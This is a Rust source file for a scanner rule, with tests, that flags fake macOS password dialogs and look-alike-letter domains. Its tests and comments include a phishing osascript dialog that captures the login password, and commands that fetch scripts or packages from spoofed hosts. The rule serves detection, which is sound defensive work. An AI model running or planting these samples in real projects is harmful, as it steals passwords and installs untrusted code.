@@ -1,0 +1,235 @@
+//! Project rule (R-RULE-8 allows it): something dressed as what the user
+//! trusts, to take what they would give only to it.
+//!
+//! Counted, in any file of the folder:
+//! - a password dialog dressed as the system's: AppleScript's `display
+//!   dialog … with hidden answer` whose words or title claim to be macOS,
+//!   its settings, its keychain or an Apple update (the macOS stealers'
+//!   first step: the answer is the login password, checked with `dscl …
+//!   authonly` and sent with the keychain);
+//! - an address whose host is a known one spelt with look-alike letters
+//!   (`googie-anaiytics.com` for `google-analytics.com`, `githuh.com` is
+//!   not one: only letters that read the same, `l`/`i`/`1`, `o`/`0`,
+//!   `rn`/`m`, `vv`/`w`, and Cyrillic letters drawn like Latin ones): a
+//!   script, a package or a form served from it looks like the real one's.
+//!
+//! Never here: a dialog that does not claim to be the system's (a tool
+//! asking for its own passphrase), a detection rule listing the strings on
+//! their own lines, a host that merely resembles another by spelling
+//! (`gitlab.com`), a known host's own subdomains.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::{Segment, Sink};
+use crate::rules::RuleId;
+
+pub(super) const ANCHORS: &[&str] = &["hidden answer", "://"];
+
+/// Hosts people and agents trust by name: code hosts, package indexes,
+/// CDNs and analytics, the model vendors, clouds, wallets and exchanges.
+const KNOWN_HOSTS: &[&str] = &[
+    "github.com",
+    "githubusercontent.com",
+    "github.io",
+    "gitlab.com",
+    "bitbucket.org",
+    "google.com",
+    "googleapis.com",
+    "google-analytics.com",
+    "googletagmanager.com",
+    "gstatic.com",
+    "npmjs.com",
+    "npmjs.org",
+    "pypi.org",
+    "pythonhosted.org",
+    "python.org",
+    "crates.io",
+    "rubygems.org",
+    "nuget.org",
+    "docker.com",
+    "docker.io",
+    "anthropic.com",
+    "claude.ai",
+    "openai.com",
+    "microsoft.com",
+    "windows.net",
+    "azure.com",
+    "amazonaws.com",
+    "cloudflare.com",
+    "jsdelivr.net",
+    "unpkg.com",
+    "apple.com",
+    "icloud.com",
+    "paypal.com",
+    "telegram.org",
+    "discord.com",
+    "slack.com",
+    "stripe.com",
+    "solana.com",
+    "metamask.io",
+    "binance.com",
+    "coinbase.com",
+    "huggingface.co",
+    "vercel.com",
+    "netlify.com",
+    "sentry.io",
+    "brew.sh",
+    "rustup.rs",
+    "astral.sh",
+    "bun.sh",
+    "deno.land",
+    "nodejs.org",
+    "golang.org",
+];
+
+pub(super) fn patterns() -> Vec<String> {
+    vec![DIALOG.as_str().to_owned()]
+}
+
+/// A hidden-answer dialog whose words claim the system's name.
+static DIALOG: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)display[ \t]+dialog[^\n]*?hidden[ \t]+answer").unwrap());
+static SYSTEM_CLAIM: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)mac[ \t]?os|os[ \t]x|system[ \t]+(?:settings|preferences|update)|software[ \t]+update|keychain|apple|icloud|finder|xcode|systemeinstellungen|préférences[ \t]+système|réglages|hệ[ \t]+thống|sistema|системн|系统|システム").unwrap()
+});
+
+pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
+    let s = seg.text();
+    if let Some(m) = DIALOG.find(s) {
+        if SYSTEM_CLAIM.is_match(m.as_str()) || SYSTEM_CLAIM.is_match(&s[m.end()..]) {
+            let at = seg.abs(m.range());
+            let (txt, lines) = (sink.text, sink.lines);
+            sink.add(RuleId::Impersonation, at.start, || {
+                format!("a password dialog dressed as the system's: {}", crate::text::excerpt(txt, lines, at.clone()))
+            });
+        }
+    }
+    for (at, host) in hosts(s) {
+        let Some(known) = imitated(&host) else { continue };
+        let range = seg.abs(at..at + host.len());
+        let (txt, lines) = (sink.text, sink.lines);
+        sink.add(RuleId::Impersonation, range.start, || {
+            format!(
+                "{host} is {known} spelt with look-alike letters: {}",
+                crate::text::excerpt(txt, lines, range.clone())
+            )
+        });
+    }
+}
+
+/// The hosts of the web addresses in `s`, with their byte offsets (at most 32).
+fn hosts(s: &str) -> Vec<(usize, String)> {
+    let mut out = Vec::new();
+    for i in memchr::memmem::find_iter(s.as_bytes(), b"://").take(32) {
+        let scheme = s[..i].rsplit(|c: char| !c.is_ascii_alphabetic()).next().unwrap_or("");
+        if !matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https" | "ftp" | "wss" | "ws") {
+            continue;
+        }
+        let from = i + 3;
+        let host: String = s[from..].chars().take_while(|c| c.is_alphanumeric() || *c == '.' || *c == '-').collect();
+        if host.contains('.') {
+            out.push((from, host.trim_end_matches('.').to_owned()));
+        }
+    }
+    out
+}
+
+/// The known host `host` imitates: the same number of trailing labels,
+/// not the same text, the same once look-alike letters are folded.
+fn imitated(host: &str) -> Option<&'static str> {
+    let host = host.to_lowercase();
+    let host = host.strip_prefix("www.").unwrap_or(&host);
+    KNOWN_HOSTS.iter().copied().find(|known| {
+        let n = known.split('.').count();
+        let labels: Vec<&str> = host.split('.').collect();
+        if labels.len() < n {
+            return false;
+        }
+        let tail = labels[labels.len() - n..].join(".");
+        tail != *known && fold(&tail) == fold(known)
+    })
+}
+
+/// Letters that read alike made one: `i`, `1`, `|` as `l`; `0` as `o`;
+/// `rn` as `m`; `vv` as `w`; Cyrillic letters drawn like Latin ones.
+fn fold(s: &str) -> String {
+    let one: String = s
+        .chars()
+        .map(|c| match c {
+            'i' | '1' | '|' | 'í' | 'ı' | 'і' | 'ӏ' => 'l',
+            '0' | 'о' | 'ο' => 'o',
+            'а' => 'a',
+            'е' => 'e',
+            'р' => 'p',
+            'с' => 'c',
+            'х' => 'x',
+            'у' => 'y',
+            'ԁ' => 'd',
+            'ѕ' => 's',
+            'ј' => 'j',
+            'ԛ' => 'q',
+            'ԝ' => 'w',
+            other => other,
+        })
+        .collect();
+    one.replace("rn", "m").replace("vv", "w")
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::rules::{check, RuleId};
+
+    fn found(text: &str) -> bool {
+        check(text).findings.iter().any(|f| f.rule == RuleId::Impersonation)
+    }
+
+    #[test]
+    fn r_rule_8_a_system_password_dialog_is_found() {
+        for t in [
+            "PW=$(osascript -e 'display dialog \"System Settings needs your password.\" with title \"System Settings\" default answer \"\" with hidden answer')",
+            "set r to display dialog \"macOS doit resynchroniser le trousseau\" default answer \"\" with hidden answer",
+            "osascript -e 'display dialog \"Update\" with title \"Software Update\" default answer \"\" with icon caution with hidden answer'",
+        ] {
+            assert!(found(t), "{t}");
+        }
+    }
+
+    #[test]
+    fn r_rule_8_a_tools_own_dialog_or_a_detection_rule_is_not() {
+        for t in [
+            "osascript -e 'display dialog \"Passphrase for backup.age\" default answer \"\" with hidden answer'",
+            "        $d2 = \"with hidden answer\" ascii nocase",
+            "set r to display dialog \"Name of the new project\" default answer \"\"",
+        ] {
+            assert!(!found(t), "{t}");
+        }
+    }
+
+    #[test]
+    fn r_rule_8_a_known_host_in_look_alike_letters_is_found() {
+        for t in [
+            "<script async src=\"https://www.googie-anaiytics.com/gtags.js?id=G-1\"></script>",
+            "pip install --index-url https://pypl.org/simple/ requests",
+            "curl -s https://raw.githubusercontent.corn/x/y/main/i.sh",
+            "fetch('https://api.anthrop1c.com/v1/messages')",
+            "see https://gіthub.com/acme/tool",
+        ] {
+            assert!(found(t), "{t}");
+        }
+    }
+
+    #[test]
+    fn r_rule_8_known_hosts_and_their_subdomains_are_not() {
+        for t in [
+            "https://gist.github.com/x and https://raw.githubusercontent.com/a/b",
+            "https://gitlab.com/group/project and https://www.google-analytics.com/analytics.js",
+            "https://api.openai.com/v1 https://pypi.org/simple https://files.pythonhosted.org/x",
+            "https://githuh.com is a typo, not look-alike letters",
+            "https://registry.npmjs.org/x https://bitbucket.org/a",
+        ] {
+            assert!(!found(t), "{t}");
+        }
+    }
+}
